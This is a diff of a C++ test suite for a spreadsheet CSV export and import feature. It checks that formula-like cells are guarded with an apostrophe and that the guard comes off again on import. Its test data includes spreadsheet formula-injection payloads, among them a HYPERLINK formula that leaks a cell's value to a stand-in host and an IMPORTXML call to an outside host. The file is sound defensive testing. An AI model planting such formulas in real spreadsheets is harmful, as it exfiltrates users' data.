@@ -337,18 +337,34 @@ namespace {
 
 // Texts a dataset from anywhere may hold: formulas, and values that only look like them.
 const char* const kFormulaLike[] = {
-    "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Click\")", "=IMPORTXML(\"http://example.org\",\"//a\")",
-    "+7 701 123 4567", "-5", "+0.5", "-1e3", "-", "=", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-2+3",
-    "'=already quoted", "''=twice", "'-5", "'", "'plain", "- a list item",
+    "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Click\")",
+    "=IMPORTXML(\"http://example.org\",\"//a\")",
+    "+7 701 123 4567",
+    "-5",
+    "+0.5",
+    "-1e3",
+    "-",
+    "=",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "-2+3",
+    "'=already quoted",
+    "''=twice",
+    "'-5",
+    "'",
+    "'plain",
+    "- a list item",
 };
 
 std::string FormulaDataset() {
     nlohmann::ordered_json institutions = nlohmann::ordered_json::array();
     int n = 0;
     for (const char* text : kFormulaLike)
-        institutions.push_back({{"id", "i" + std::to_string(n++)}, {"name", "Name " + std::to_string(n)},
-                                {"description", text}, {"category", std::string(text).find_first_of("\t\r") == std::string::npos ? text : "x"},
-                                {"sources", {"s"}}});
+        institutions.push_back(
+            {{"id", "i" + std::to_string(n++)}, {"name", "Name " + std::to_string(n)}, {"description", text},
+                {"category", std::string(text).find_first_of("\t\r") == std::string::npos ? text : "x"},
+                {"sources", {"s"}}});
     const nlohmann::ordered_json observations = nlohmann::ordered_json::parse(
         R"([{"value": -5, "date": "2024", "sources": ["s"]}, {"value": -0.25, "date": "2025", "sources": ["s"]}])");
     nlohmann::ordered_json dataset = nlohmann::ordered_json::parse(R"json({"format": "polity/1",
@@ -377,7 +393,8 @@ TEST_CASE("sheets: export writes no cell a spreadsheet would run as a formula") 
                 const bool plain_number = cell == "-5" || cell == "+0.5" || cell == "-1e3" || cell == "-0.25";
                 if (!cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos)
                     CHECK(plain_number);
-                guarded += cell.size() > 1 && cell[0] == '\'' && std::string_view("=+-@\t\r").find(cell[1]) != std::string_view::npos;
+                guarded += cell.size() > 1 && cell[0] == '\'' &&
+                    std::string_view("=+-@\t\r").find(cell[1]) != std::string_view::npos;
             }
     }
     CHECK(guarded > 10);
@@ -386,11 +403,13 @@ TEST_CASE("sheets: export writes no cell a spreadsheet would run as a formula") 
 TEST_CASE("sheets: import takes the guard off again, so formulas, phones and numbers round-trip exactly") {
     CheckRoundTrip(FormulaDataset());
     // As a spreadsheet saves it when the editor typed the text: no guard at all.
-    const ImportResult typed = ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,=1+1,src\n"));
+    const ImportResult typed =
+        ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,=1+1,src\n"));
     REQUIRE(typed.ok());
     CHECK(nlohmann::json::parse(typed.json)["people"][0]["description"] == "=1+1");
     // As export writes it, or a spreadsheet saves a cell typed with the apostrophe.
-    const ImportResult guarded = ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,'=1+1,src\n"));
+    const ImportResult guarded =
+        ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,'=1+1,src\n"));
     REQUIRE(guarded.ok());
     CHECK(nlohmann::json::parse(guarded.json)["people"][0]["description"] == "=1+1");
 }
@@ -405,12 +424,13 @@ TEST_CASE("sheets: at most 100 problems per file are listed, then how many more"
     std::size_t listed = 0;
     for (const SheetDiagnostic& d : r.diagnostics) listed += d.file == "people.csv";
     CHECK(listed == 101);
-    CHECK(FormatSheetDiagnostic(r.diagnostics[100]) == "people.csv: error: \xE2\x80\xA6" "and 50 more (not listed)");
+    CHECK(FormatSheetDiagnostic(r.diagnostics[100]) == "people.csv: error: \u2026and 50 more (not listed)");
     CHECK(Only(r, "roles.csv", "unknown id 'cuort'").row == 2);
 }
 
 TEST_CASE("sheets: a byte order mark or a bidirectional mark in a header is shown escaped") {
-    const ImportResult r = ImportSheets(With(Minimal(), "people.csv", "id,\xEF\xBB\xBFname,\xE2\x80\xAEsources\njudge,A. Judge,src\n"));
+    const ImportResult r =
+        ImportSheets(With(Minimal(), "people.csv", "id,\xEF\xBB\xBFname,\xE2\x80\xAEsources\njudge,A. Judge,src\n"));
     const std::string all = AllDiagnostics(r);
     CHECK(all.find("column \"\\u{FEFF}name\": not a column") != std::string::npos);
     CHECK(all.find("column \"\\u{202E}sources\": not a column") != std::string::npos);
